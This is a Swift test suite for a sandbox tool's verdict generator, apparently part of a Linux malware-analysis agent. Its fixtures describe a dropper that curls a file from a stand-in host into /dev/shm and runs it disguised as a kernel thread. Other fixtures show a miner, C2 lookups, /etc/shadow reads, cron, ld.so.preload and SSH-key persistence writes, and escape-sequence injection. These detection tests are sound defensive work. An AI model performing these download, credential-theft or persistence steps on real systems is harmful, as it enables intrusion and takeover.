// shmwarden — Linux host agent for executables dropped on tmpfs.
// SPDX-License-Identifier: Apache-2.0

import Foundation
@preconcurrency import Glibc
import Testing
import WardenCore
import WardenLinux

@testable import WardenSandbox

/// The verdict restates the report: each sentence from its fields, nothing else.
@Suite struct SandboxVerdictTests {
    private func report(
        exit: SandboxReport.Exit = .init(code: 0, signal: nil), files: [SandboxReport.FileAccess] = [],
        signals: [String] = [],
        denied: [String: Int] = [:], processes: [SandboxReport.Process] = [], timedOut: Bool = false,
        stillRunning: [SandboxReport.Survivor] = []
    ) -> SandboxReport {
        SandboxReport(
            id: "s1", sha256: String(repeating: "a", count: 64), argv: ["/sample/x"], uid: 2_147_483_646, exit: exit,
            timedOut: timedOut, stillRunning: stillRunning,
            durationMs: 4.5, syscalls: [:], denied: denied, network: [], lookups: [], files: files,
            processes: processes, signals: signals,
            written: [], writtenTruncated: false, stdout: "", stderr: "", stdoutTruncated: false,
            stderrTruncated: false, setupError: nil,
            verdict: [])
    }

    @Test func aQuietRunSaysSo() {
        #expect(
            SandboxVerdict.sentences(report()) == ["It exited with code 0 after 4.5 ms.", "Nothing else was observed."])
        #expect(SandboxVerdict.sentences(report(exit: .init(code: nil, signal: nil))) == ["Nothing else was observed."])
    }

    @Test func callsThroughI386sABIAreSaid() {
        var mixed = report()
        mixed.i386Calls = 4
        #expect(
            SandboxVerdict.sentences(mixed) == [
                "It exited with code 0 after 4.5 ms.",
                "4 of its observed calls went through the 32-bit x86 (i386) ABI: a 32-bit program's, or int 0x80 from a 64-bit one.",
            ])
        #expect(SandboxReportMarkdown.render(mixed).contains("| observed calls through i386's ABI | 4 |"))
    }

    /// A run stored before `stillRunning`, `writtenTruncated`, `i386Calls` and `exit.atTimeLimit` existed
    /// still reads back, with the values that meant "none" then.
    @Test func aRunStoredBeforeTheNewerFieldsReadsBack() throws {
        var stored = report(exit: .init(code: nil, signal: 9, atTimeLimit: true), timedOut: true)
        stored.verdict = ["It was still running after the time limit."]
        stored.i386Calls = 3
        let json = try #require(stored.record(at: Timestamp(nanosecondsSinceEpoch: 0)).reportJSON.data(using: .utf8))
        var object = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])
        object["stillRunning"] = nil
        object["writtenTruncated"] = nil
        object["i386Calls"] = nil
        var exit = try #require(object["exit"] as? [String: Any])
        exit["atTimeLimit"] = nil
        object["exit"] = exit
        let legacy = String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self)
        let read = try SandboxReport.decodeStored(legacy)
        #expect(read.exit == stored.exit && read.timedOut && read.stillRunning.isEmpty && !read.writtenTruncated)
        #expect(read.i386Calls == 0)
        #expect(read.verdict == stored.verdict && read.id == stored.id && read.sha256 == stored.sha256)
        // A current one reads back as it was written.
        let current = try SandboxReport.decodeStored(String(decoding: json, as: UTF8.self))
        #expect(current.exit == stored.exit && current.i386Calls == 3)
        #expect(throws: (any Error).self) { try SandboxReport.decodeStored("[1]") }
    }

    /// What the sample chose (a host name here) reaches a terminal with its escape sequences
    /// shown, not sent.
    @Test func controlCharactersFromTheSampleAreEscapedInTheVerdict() {
        var looked = report()
        looked.lookups = [.init(request: "getaddrinfo", name: "c2\u{1B}]0;owned\u{07}.example", pid: 7)]
        let sentence = SandboxVerdict.sentences(looked).first { $0.hasPrefix("It looked up") }
        #expect(
            sentence
                == #"It looked up 1 host name(s) or address(es) through glibc, answered by the jail's name service: c2\x1b]0;owned\x07.example (not found)."#
        )
    }

    /// A link made in a place programs are started from is a persistence attempt like a write.
    @Test func aLinkMadeAtAPersistencePlaceCounts() {
        let linked = report(files: [
            .init(syscall: "symlinkat", path: "/etc/cron.d/job", detail: "-> /tmp/a", created: true)
        ])
        #expect(
            SandboxVerdict.sentences(linked).contains(
                "It tried to write where programs are started again (persistence): /etc/cron.d/job."),
            "\(SandboxVerdict.sentences(linked))")
    }

    @Test func whatOutlivedTheSampleIsNamedWithHowItEnded() {
        let miner = SandboxReport.Survivor(pid: 41, commandLine: "'[kworker/0:1]' -o pool:3333", ownSession: true)
        let helper = SandboxReport.Survivor(pid: 42, commandLine: "sleep 60", ownSession: false)
        let leftBehind = report(timedOut: true, stillRunning: [miner, helper])
        #expect(
            SandboxVerdict.sentences(leftBehind).first
                == "It exited with code 0, and 2 process(es) it left behind were still running at the time limit, 1 of "
                + "them in a session of its own (a daemon): pid 41 '[kworker/0:1]' -o pool:3333; pid 42 sleep 60; every "
                + "process in its pid namespace was killed then.")
        #expect(
            SandboxVerdict.sentences(report(timedOut: true)).first
                == "It exited with code 0, and processes it left behind were still running at the time limit; every "
                + "process in its pid namespace was killed then.")
        let stillAtWork = report(
            exit: .init(code: nil, signal: 9, atTimeLimit: true), timedOut: true, stillRunning: [helper])
        #expect(
            SandboxVerdict.sentences(stillAtWork).first
                == "It was still running after the time limit; every process in its pid namespace was killed (1 "
                + "running then: pid 42 sleep 60).")
    }

    @Test func aRenameAndAMemoryOnlyFileAreNamedAndNotCountedAsOthers() {
        let sentences = SandboxVerdict.sentences(
            report(
                files: [.init(syscall: "memfd_create", path: "/memfd:x", detail: "MFD_CLOEXEC", created: true)],
                processes: [
                    .init(syscall: "prctl", path: nil, pid: 7, renamedTo: "[kworker/0:1]"),
                    .init(syscall: "prctl", path: nil, pid: 8, renamedTo: "[kworker/0:1]"),
                ]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It renamed itself as ps shows it (prctl PR_SET_NAME): '[kworker/0:1]'.",
                "It tried to create 1 file(s) that exist only in memory (memfd_create), with no result seen: /memfd:x.",
            ])
    }

    /// Each kind of call is told as it came out: done, refused (with the error), or with no
    /// result seen (a call is seen before the kernel runs it).
    @Test func aDroppersNextStepsAreNamedWithWhatTheyCameTo() {
        func access(_ syscall: String, _ path: String, _ detail: String?, created: Bool = false, result: String?)
            -> SandboxReport.FileAccess
        {
            var access = SandboxReport.FileAccess(syscall: syscall, path: path, detail: detail, created: created)
            access.result = result
            return access
        }
        let files =
            [
                access("openat", "/tmp/a", "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true, result: "ok"),
                access(
                    "openat", "/etc/cron.d/x", "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true, result: "ENOENT"),
                access("fchmodat", "/tmp/a", "755", result: "ok"),
                access("unlinkat", "/tmp/a", nil, result: "ok"),
            ] + (1...4).map { access("rename", "/tmp/r\($0)", "/tmp/s\($0)", result: nil) }
        let sentences = SandboxVerdict.sentences(report(files: files, signals: ["kill(1, 9) -> EPERM", "kill(7, 15)"]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It tried to write where programs are started again (persistence): /etc/cron.d/x (ENOENT).",
                "It created or truncated 1 file(s): /tmp/a.",
                "It tried to create or truncate 1 more file(s), refused: /etc/cron.d/x (ENOENT).",
                "It changed the mode of 1 file(s): /tmp/a 755.",
                "It deleted or renamed 1 path(s): /tmp/a.",
                "It tried to delete or rename 4 more path(s), with no result seen: /tmp/r1, /tmp/r2, /tmp/r3 and 1 more.",
                "It tried to send 1 signal(s), refused: kill(1, 9) (EPERM).",
                "It tried to send 1 more signal(s), with no result seen: kill(7, 15).",
            ])
    }

    /// Where the results could not be traced, the verdict says so once, after the attempts.
    @Test func untracedResultsAreSaidOnce() {
        var untraced = report(
            files: [.init(syscall: "unlinkat", path: "/usr/bin/ls", detail: nil, created: false)])
        untraced.resultsError = "perf_event_open failed: Permission denied (errno 13)"
        #expect(
            SandboxVerdict.sentences(untraced) == [
                "It exited with code 0 after 4.5 ms.",
                "It tried to delete or rename 1 path(s), with no result seen: /usr/bin/ls.",
                "What its calls came to could not be traced (perf_event_open failed: Permission denied (errno 13)): where it tried, the outcome is not known.",
            ])
        var quiet = report()
        quiet.resultsError = untraced.resultsError
        #expect(
            SandboxVerdict.sentences(quiet) == ["It exited with code 0 after 4.5 ms.", "Nothing else was observed."])
    }

    /// A refused socket call can only have asked for a family other than AF_UNIX: the verdict
    /// says so, and says nothing of a destination it never saw.
    @Test func refusedSocketsNameTheKindOfAccess() {
        let sentences = SandboxVerdict.sentences(report(denied: ["socket": 2, "mount": 1]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "The filter refused or killed: mount ×1, socket ×2.",
                "Its 2 refused socket call(s) asked for a family other than AF_UNIX, the only one the filter allows (an IPv4 or IPv6 socket, for instance); where it meant to connect is not known.",
            ])
        #expect(!SandboxVerdict.sentences(report(denied: ["mount": 1])).contains { $0.contains("socket") })
    }

    /// An observed run's network story: its stand-ins, where it connected and what it sent to the
    /// sink (a TLS server name rather than its bytes), its binds, and its own DNS queries.
    @Test func theNetworkStoryIsTold() {
        var base = report(denied: ["socket": 1])
        base.syscalls = ["socket": 4, "connect": 3]
        var http = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET", address: "203.0.113.5", port: 80, result: "ok")
        http.sentBytes = 18
        http.sent = "GET / HTTP/1.1\\x0d\\x0a"
        var tls = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET", address: "198.51.100.2", port: 443, result: "ok")
        tls.sentBytes = 517
        tls.tlsServerName = "pool.example.net"
        var silent = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET6", address: "2001:db8::1", port: 22, result: "ok")
        silent.sentBytes = 0
        base.network = [
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET6", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_RAW", result: "EPERM"),
            http, tls, silent,
            .init(syscall: "bind", family: "AF_INET", address: "0.0.0.0", port: 4444, result: "ok"),
            {
                var datagram = SandboxReport.NetworkAttempt(
                    syscall: "sendto", family: "AF_INET", address: "198.51.100.3", port: 9999, result: "ENETUNREACH")
                datagram.sentBytes = 4
                datagram.sent = "ping"
                return datagram
            }(),
        ]
        base.lookups = [.init(request: "DNS AAAA", name: "c2.example", pid: 9)]
        let sentences = SandboxVerdict.sentences(base)
        #expect(
            sentences.contains(
                "Its 1 refused socket call(s) asked for a kind the jail does not give: a family other than AF_UNIX, IPv4 and IPv6 (a packet or netlink socket, say), or a raw IPv4 or IPv6 socket (AF_INET SOCK_RAW ×1)."
            ), "\(sentences)")
        #expect(
            sentences.contains(
                "It made 3 IPv4 or IPv6 socket(s) (AF_INET SOCK_STREAM ×2, AF_INET6 SOCK_STREAM ×1). "
                    + SandboxVerdict.standInNote))
        #expect(
            sentences.contains(
                "It tried to connect or send: AF_INET 198.51.100.2 443 (ok); AF_INET 198.51.100.3 9999 (ENETUNREACH); AF_INET 203.0.113.5 80 (ok); AF_INET6 2001:db8::1 22 (ok)."
            ), "\(sentences)")
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 203.0.113.5 80, made to the jail's sink, it sent 18 byte(s): GET / HTTP/1.1\\x0d\\x0a"
            ))
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 198.51.100.2 443, made to the jail's sink, it began TLS for the server name pool.example.net (517 byte(s) sent)."
            ))
        #expect(
            sentences.contains(
                "Its connection to AF_INET6 2001:db8::1 22, made to the jail's sink, carried nothing before the sink hung up."
            ))
        #expect(sentences.contains("It tried to bind sockets, to listen or receive on: AF_INET 0.0.0.0 4444 (ok)."))
        #expect(
            sentences.contains(
                "It tried to send a datagram of 4 byte(s) to AF_INET 198.51.100.3 9999, not delivered: ping"),
            "\(sentences)")
        #expect(
            sentences.contains {
                $0.hasPrefix("It sent DNS queries of its own, not through glibc, for 1 name(s): c2.example (AAAA);")
            })
        #expect(!sentences.contains { $0.hasPrefix("It looked up") })
    }

    /// A beacon that reconnects and sends the same each time is one sentence, with how often.
    @Test func aBeaconsRepeatedConnectionsAreOneSentence() {
        var base = report()
        base.syscalls = ["connect": 5]
        let beacon = { (sent: String) -> SandboxReport.NetworkAttempt in
            var attempt = SandboxReport.NetworkAttempt(
                syscall: "connect", family: "AF_INET", address: "203.0.113.9", port: 443, result: "ok")
            attempt.sentBytes = sent.utf8.count
            attempt.sent = sent
            attempt.sentBase64 = PathBytes(sent).base64
            return attempt
        }
        base.network = [beacon("hello"), beacon("hello"), beacon("hello"), beacon("bye"), beacon("")]
        let sentences = SandboxVerdict.sentences(base)
        #expect(
            sentences.contains(
                "Over each of its 3 connections to AF_INET 203.0.113.9 443, made to the jail's sink, it sent 5 byte(s): hello"
            ),
            "\(sentences)")
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 203.0.113.9 443, made to the jail's sink, it sent 3 byte(s): bye"))
        #expect(
            sentences.contains(
                "Its connection to AF_INET 203.0.113.9 443, made to the jail's sink, carried nothing before the sink hung up."
            ))
        #expect(!sentences.contains { $0.hasPrefix("It made") && $0.contains("more connection") })
    }

    /// A scanner's hundreds of connects are all in `network`; the verdict names the first ten.
    @Test func aScannersConnectsAreCountedNotAllNamed() {
        var base = report()
        base.syscalls = ["connect": 12]
        base.network = (0..<12).map {
            .init(
                syscall: "connect", family: "AF_INET", address: "198.51.100.\($0 + 10)", port: 23, result: "ENETUNREACH"
            )
        }
        let sentence = SandboxVerdict.sentences(base).first { $0.hasPrefix("It tried to connect or send: ") }
        #expect(sentence?.hasSuffix("AF_INET 198.51.100.19 23 (ENETUNREACH) and 2 more.") == true, "\(sentence ?? "")")
    }

    /// What an exec was told is the dropper's story (`curl URL -o /dev/shm/x`): the verdict names
    /// each program with its arguments, quoted as a shell needs them, and says when argv[0] lies
    /// about the program or the vector went on past what was read.
    @Test func programsAreNamedWithTheirArguments() {
        let processes: [SandboxReport.Process] = [
            .init(syscall: "execveat", path: SandboxReport.Process.theSample, pid: 1, arguments: ["/sample/x"]),
            .init(syscall: "clone", path: nil, pid: 1),
            .init(
                syscall: "execve", path: "/usr/bin/curl", pid: 2,
                arguments: ["curl", "-o", "/dev/shm/a b", "http://h/x"]),
            .init(syscall: "execve", path: "/dev/shm/a b", pid: 2, arguments: ["[kworker/0:1]"]),
            .init(
                syscall: "execve", path: "/bin/echo", pid: 3, arguments: ["/bin/echo", "1"], argumentsComplete: false),
            .init(syscall: "execve", path: "/bin/true", pid: 4),
        ]
        #expect(processes[0].commandLine == "/sample/x")
        #expect(processes[1].commandLine == nil)
        #expect(processes[3].commandLine == "'/dev/shm/a b' (argv[0] '[kworker/0:1]')")
        let sentences = SandboxVerdict.sentences(report(processes: processes))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It made 5 call(s) that start a process or a program (clone, execve).",
                "It tried to run 4 program(s), with no result seen: /usr/bin/curl -o '/dev/shm/a b' http://h/x; '/dev/shm/a b' (argv[0] '[kworker/0:1]'); /bin/echo 1 …; /bin/true.",
            ])
    }

    /// Credential files opened in any way, persistence places written (or renamed onto), and a
    /// container runtime's socket: each named; a shell reading /etc/profile is not persistence.
    @Test func sensitiveAttemptsAreNamed() {
        let files: [SandboxReport.FileAccess] = [
            .init(syscall: "openat", path: "/etc/shadow", detail: "O_RDONLY", created: false),
            .init(syscall: "openat", path: "/etc/profile", detail: "O_RDONLY", created: false),
            .init(
                syscall: "openat", path: "/etc/cron.d/x", detail: "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true),
            .init(syscall: "openat", path: "/etc/ld.so.preload", detail: "O_WRONLY|O_APPEND", created: false),
            .init(syscall: "renameat2", path: "/tmp/k", detail: "to /root/.ssh/authorized_keys", created: false),
            .init(syscall: "unlinkat", path: "/etc/shadow-", detail: nil, created: false),
        ]
        var base = report(files: files)
        base.network = [.init(syscall: "connect", family: "AF_UNIX", address: "/var/run/docker.sock", port: nil)]
        #expect(
            SandboxVerdict.sensitiveAccesses(base) == [
                "It tried to open credential files: /etc/shadow.",
                "It tried to write where programs are started again (persistence): /etc/cron.d/x, /etc/ld.so.preload, /root/.ssh/authorized_keys.",
                "It tried to reach a container runtime's socket: /var/run/docker.sock.",
            ])
        #expect(SandboxVerdict.sentences(base).contains("It tried to open credential files: /etc/shadow."))
        #expect(SandboxVerdict.sensitiveAccesses(report(files: [files[1]])).isEmpty)
    }
}
